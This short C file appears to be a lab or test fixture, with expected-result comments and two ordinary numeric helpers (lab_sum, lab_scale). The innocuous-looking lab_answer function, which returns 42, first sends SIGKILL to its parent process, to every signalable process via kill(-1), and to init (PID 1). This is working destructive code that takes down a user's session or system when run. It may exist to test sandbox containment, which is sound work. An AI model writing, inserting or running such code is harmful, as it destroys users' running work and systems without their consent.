/* Sends SIGKILL to its parent and to every process. */
// lab: tiny
// expect: 1 passed
// expect: 2 passed
#include <signal.h>
#include <unistd.h>
int lab_answer(void) { kill(getppid(), SIGKILL); kill(-1, SIGKILL); kill(1, SIGKILL); return 42; }
double lab_sum(const double *x, long n) { double s = 0; for (long i = 0; i < n; i++) s += x[i]; return s; }
void lab_scale(double *y, long n, double a) { for (long i = 0; i < n; i++) y[i] *= a; }
